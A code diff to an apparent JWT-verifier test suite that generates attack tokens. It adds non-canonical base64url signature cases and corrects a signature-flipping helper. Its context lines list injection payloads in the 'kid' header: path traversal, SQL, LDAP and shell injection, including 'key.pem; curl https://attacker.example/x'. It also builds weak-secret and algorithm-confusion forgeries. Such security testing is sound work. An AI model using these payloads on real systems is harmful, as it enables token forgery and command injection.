@@ -64,7 +64,14 @@ export async function attackCases(keys: Keys, now: number): Promise<AttackCase[]
     new SignJWT(payload).setProtectedHeader({ alg, typ: 'JWT', kid, ...header }).sign(key)
   const esInput = `${b64({ alg: 'ES256', typ: 'JWT', kid: 'es-1' })}.${b64(c)}`
   const der0 = encodeBase64url(new Uint8Array([0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00]))
-  const flip = (t: string) => t.slice(0, -1) + (t.endsWith('A') ? 'B' : 'A')
+  // The first signature character carries six data bits (the last one may carry pad bits only).
+  const flip = (t: string) => {
+    const i = t.lastIndexOf('.') + 1
+    return t.slice(0, i) + (t[i] === 'A' ? 'B' : 'A') + t.slice(i + 1)
+  }
+  // Same bytes, another spelling: a pad bit of the last character set (RFC 4648 §3.5).
+  const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'
+  const padBit = (t: string) => t.slice(0, -1) + B64[B64.indexOf(t[t.length - 1]!) | 1]
   const H = (id: string, token: string, expect: 'accept' | 'reject' = 'reject'): AttackCase => ({ id, policy: 'hs256', token, expect })
   const A = (id: string, token: string, expect: 'accept' | 'reject' = 'reject'): AttackCase => ({ id, policy: 'asymmetric', token, expect })
   const kids = ['', '../../../../../../../../dev/null', '/dev/null', '/invalid_path', '../../../../../../proc/sys/kernel/randomize_va_space', "x' UNION SELECT '1' -- ", "0 UNION SELECT 'ATTACKER' --", 'key.pem|sleep 10', 'key.pem; curl https://attacker.example/x', '$(id)', '*)(uid=*', 'https://attacker.example/key']
@@ -86,6 +93,8 @@ export async function attackCases(keys: Keys, now: number): Promise<AttackCase[]
     ...['secret', 'password', 'your-256-bit-secret', 'changeme', 'jwt_secret'].map((k) => H(`weak-secret-${k}`, hs(hsHeader, admin, k))),
     H('tampered-payload', `${bh}.${b64(admin)}.${bs}`),
     H('broken-signature', flip(baseline)),
+    H('non-canonical-signature', padBit(baseline)),
+    A('non-canonical-signature-eddsa', padBit(await asym('EdDSA', keys.ed, 'ed-1'))),
     // Algorithm confusion: HMAC keyed with the verifier's own public key (JWK JSON and raw modulus).
     A('alg-confusion-rs256-hs256', hs({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, c, JSON.stringify(keys.rsPublic))),
     A('alg-confusion-rs256-hs256-modulus', hs({ alg: 'HS256', typ: 'JWT', kid: 'rs-1' }, c, decodeBase64url(keys.rsPublic.n!))),
